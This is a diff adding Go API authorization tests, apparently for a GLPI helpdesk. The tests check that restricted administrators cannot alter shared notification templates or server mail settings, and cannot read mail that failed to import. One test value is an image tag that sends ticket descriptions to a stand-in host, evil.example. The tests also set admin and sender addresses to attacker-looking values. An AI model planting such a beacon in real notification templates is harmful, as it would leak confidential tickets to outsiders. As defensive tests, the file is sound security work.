@@ -583,3 +583,67 @@ func TestSecretsStayWhereTheyAre(t *testing.T) {
 	s.Employ("jeanne", 4, france, true) // administers, but there alone
 	s.Call("jeanne", "PATCH", "/Setup/Config/core/smtp_host", testapi.Body{"value": "evil.example"}).Want(403)
 }
+
+// TestLettersOfOthers keeps those who may configure the server, and do not see everything, from what notifications of
+// others say, and from being told of everything: by the texts that all entities' notifications share, and by addresses
+// of administrators, of the server and of entities.
+func TestLettersOfOthers(t *testing.T) {
+	t.Parallel()
+	s := samples.New(t)
+	france := s.Call("glpi", "POST", "/Administration/Entity", testapi.Body{"name": "France", "parent": 0}).ID()
+	s.Employ("jeanne", 4, france, true) // administers, but there alone
+	s.Recruit("half", 0, map[string]int{"config": 3, "notification": 31, "entity": 3, "ticket": 1, "followup": 1})
+	template := s.Scalar("SELECT MIN(`t`.`id`) FROM `glpi_notificationtemplates` `t` JOIN" +
+		" `glpi_notifications_notificationtemplates` `l` ON `l`.`notificationtemplates_id` = `t`.`id`" +
+		" JOIN `glpi_notifications` `n` ON `n`.`id` = `l`.`notifications_id` WHERE `n`.`itemtype` = 'Ticket'")
+	const templates = "/Notifications/NotificationTemplate"
+	at := templates + "/" + template
+	text := fmt.Sprintf("%s/Translation/%v", at,
+		s.Call("glpi", "GET", at+"/Translation", nil).Want(200).List()[0]["id"])
+	leak := testapi.Body{"content_html": `<img src="https://evil.example/?##ticket.description##">`}
+	for _, who := range []string{"jeanne", "half"} {
+		s.Call(who, "PATCH", at, testapi.Body{"css": "p{}"}).Want(403)
+		s.Call(who, "DELETE", at, nil).Want(403)
+		s.Call(who, "PATCH", text, leak).Want(403)
+		s.Call(who, "DELETE", text, nil).Want(403)
+		leak["language"] = "fr_FR"
+		s.Call(who, "POST", at+"/Translation", leak).Want(403)
+		delete(leak, "language")
+		own := fmt.Sprintf("%s/%d", templates, s.Call(who, "POST", templates,
+			testapi.Body{"name": "own", "itemtype": "Ticket"}).ID())
+		s.Call(who, "POST", own+"/Translation", testapi.Body{"subject": "x"}).Want(201)
+		s.Call(who, "PATCH", own, testapi.Body{"name": "mine"}).Want(200)
+		for _, name := range []string{"admin_email", "from_email", "replyto_email", "noreply_email", "url_base"} {
+			s.Call(who, "PATCH", "/Setup/Config/core/"+name, testapi.Body{"value": "https://evil.example"}).Want(403)
+		}
+	}
+	s.Call("glpi", "PATCH", at, testapi.Body{"css": "p{}"}).Want(200)
+	s.Call("glpi", "PATCH", text, testapi.Body{"subject": "x"}).Want(200)
+	s.Call("glpi", "PATCH", "/Setup/Config/core/url_base", testapi.Body{"value": "https://desk.example"}).Want(200)
+	for _, name := range []string{"admin_email", "from_email", "replyto_email"} {
+		address := testapi.Body{name: "half@evil.example"}
+		s.Call("half", "PATCH", "/Administration/Entity/0", address).Want(403)
+		s.Call("half", "PATCH", "/Administration/Entity/0", testapi.Body{name: "", "mailing_signature": "x"}).Want(200)
+		s.Call("jeanne", "PATCH", fmt.Sprintf("/Administration/Entity/%d", france), address).Want(200)
+	}
+}
+
+// TestMailOfOthers shows mail that became nothing to those alone who reach all entities: it names people and what they
+// wrote, of any.
+func TestMailOfOthers(t *testing.T) {
+	t.Parallel()
+	s := samples.New(t)
+	here := s.Call("glpi", "POST", "/Administration/Entity", testapi.Body{"name": "here", "parent": 0}).ID()
+	s.Employ("ofhere", 4, here, true)
+	s.Employ("ofroot", 4, 0, false)
+	s.Exec("INSERT INTO `glpi_notimportedemails` (`from`, `to`, `subject`, `reason`) VALUES ('ann@example.org'," +
+		" 'desk@example.org', 'SECRET', 0)")
+	list := s.Call("glpi", "GET", "/Setup/NotImportedEmail", nil).Want(200).List()
+	for _, who := range []string{"ofhere", "ofroot"} {
+		s.Call(who, "GET", "/Setup/NotImportedEmail", nil).Want(403)
+		s.Call(who, "GET", fmt.Sprintf("/Setup/NotImportedEmail/%v", list[0]["id"]), nil).Want(403)
+		if got := s.Graph(who, "{ NotImportedEmail { subject } }"); strings.Contains(fmt.Sprint(got), "SECRET") {
+			t.Errorf("%s: %v", who, got)
+		}
+	}
+}
